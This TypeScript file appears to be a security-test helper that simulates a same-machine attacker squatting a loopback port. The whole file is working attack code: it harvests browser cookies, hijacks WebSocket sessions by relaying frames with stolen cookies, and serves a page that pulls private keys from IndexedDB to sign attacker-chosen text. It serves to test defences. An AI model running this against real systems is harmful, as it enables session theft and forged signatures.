import { createServer, type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import { WebSocket, WebSocketServer } from 'ws';

/**
 * Another user of the same machine who listens on a loopback port. It keeps everything that browsers send there, relays
 * WebSocket frames to a station, and serves a page that signs with any key in that origin's storage. It runs as a
 * separate process (`port-squatter.ts PORT`), which takes orders over its channel.
 */
export type SquatterOrder =
  | { readonly id: number; readonly order: 'collected' }
  | { readonly id: number; readonly order: 'relay'; readonly to: string }
  | { readonly id: number; readonly order: 'use-cookie'; readonly at: string }
  | { readonly id: number; readonly order: 'sign'; readonly text: string };

export interface Collected {
  readonly paths: readonly string[];
  readonly cookies: readonly string[];
  /** The text frames that pages sent to this port. */
  readonly frames: readonly string[];
  /** Frames that the station sent through the relay. */
  readonly relayed: readonly string[];
}

const paths: string[] = [];
const cookies = new Set<string>();
const frames: string[] = [];
const relayed: string[] = [];
let relayTo: string | null = null;
let toSign: { readonly text: string; readonly answer: (signature: string) => void } | null = null;

/** Looks for keys in every database of its origin, and signs a text with them. */
const page = `<!doctype html><title>Intray</title><script>
const each = (request) => new Promise((done) => { request.onsuccess = () => done(request.result); request.onerror = () => done(null); });
const keysIn = async () => {
  const keys = [];
  for (const { name } of await indexedDB.databases()) {
    const database = await each(indexedDB.open(name));
    for (const store of database.objectStoreNames) {
      for (const value of await each(database.transaction(store).objectStore(store).getAll())) {
        const inside = [value, ...Object.values(value ?? {})].flatMap((one) => [one, one?.privateKey]);
        keys.push(...inside.filter((one) => one instanceof CryptoKey && one.type === 'private'));
      }
    }
    database.close();
  }
  return keys;
};
const work = async () => {
  const text = await (await fetch('/to-sign')).text();
  const [key] = await keysIn();
  if (text !== '' && key !== undefined) {
    const exported = await crypto.subtle.exportKey('pkcs8', key).then(() => 'exported', () => 'not-exportable');
    const bytes = await crypto.subtle.sign({ name: 'ECDSA', hash: 'SHA-256' }, key, new TextEncoder().encode(text));
    await fetch('/signed', { method: 'POST', body: exported + ' ' + btoa(String.fromCharCode(...new Uint8Array(bytes))) });
  }
  setTimeout(work, 100);
};
work();
</script><img src="/pixel.png">`;

function keep(request: IncomingMessage): void {
  paths.push(request.url ?? '');
  if (request.headers.cookie !== undefined) cookies.add(request.headers.cookie);
}

const server = createServer((request, response) => {
  keep(request);
  if (request.url === '/to-sign') {
    response.end(toSign?.text ?? '');
    return;
  }
  let body = '';
  request.on('data', (chunk: Buffer) => (body += chunk.toString()));
  request.on('end', () => {
    if (request.url === '/signed') toSign?.answer(body);
    if (request.url === '/signed') toSign = null;
    response.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' }).end(page);
  });
});
const sockets = new WebSocketServer({ noServer: true });
server.on('upgrade', (request: IncomingMessage, socket, head: Buffer) => {
  keep(request);
  sockets.handleUpgrade(request, socket, head, (fromPage) => {
    const headers = { Origin: relayTo ?? '', ...(request.headers.cookie ? { Cookie: request.headers.cookie } : {}) };
    const toStation = relayTo === null ? null : new WebSocket(`${relayTo.replace('http', 'ws')}/ws`, { headers });
    const early: string[] = [];
    toStation?.on('open', () => early.splice(0).forEach((text) => toStation.send(text)));
    toStation?.on('error', () => undefined);
    toStation?.on('close', () => fromPage.close());
    toStation?.on('message', (data: Buffer) => {
      relayed.push(data.toString());
      fromPage.send(data.toString());
    });
    fromPage.on('message', (data: Buffer) => {
      frames.push(data.toString());
      if (toStation?.readyState === WebSocket.OPEN) toStation.send(data.toString());
      else early.push(data.toString());
    });
    fromPage.on('close', () => toStation?.close());
  });
});

/** Connects to the station with the collected cookies; returns its first frame. */
function tryCookies(at: string): Promise<string> {
  return new Promise((resolve) => {
    const headers = { Origin: at, Cookie: [...cookies].join('; ') };
    const socket = new WebSocket(`${at.replace('http', 'ws')}/ws`, { headers });
    socket.on('message', (data: Buffer) => resolve(data.toString()));
    socket.on('unexpected-response', (_request, response) => resolve(`status ${response.statusCode}`));
    socket.on('error', () => resolve('error'));
    socket.on('close', () => resolve('closed'));
    setTimeout(() => resolve('silence'), 2_000);
  });
}

function carryOut(order: SquatterOrder): unknown {
  switch (order.order) {
    case 'collected':
      return { paths, cookies: [...cookies], frames, relayed } satisfies Collected;
    case 'relay':
      relayTo = order.to;
      // Closing the connections makes pages connect again, then to the station.
      for (const socket of sockets.clients) socket.close();
      return null;
    case 'use-cookie':
      return tryCookies(order.at);
    case 'sign':
      return new Promise((answer) => (toSign = { text: order.text, answer }));
  }
}

process.on('message', (order: SquatterOrder) => {
  void Promise.resolve(carryOut(order)).then((result) => process.send?.({ id: order.id, result }));
});
process.on('disconnect', () => process.exit(0));

const listen = (port: number): void => {
  server.once('error', () => setTimeout(() => listen(port), 50));
  server.listen(port, '127.0.0.1', () =>
    process.send?.({ ready: (server.address() as AddressInfo).port, uid: process.getuid?.() }),
  );
};
listen(Number(process.argv[2] ?? 0));
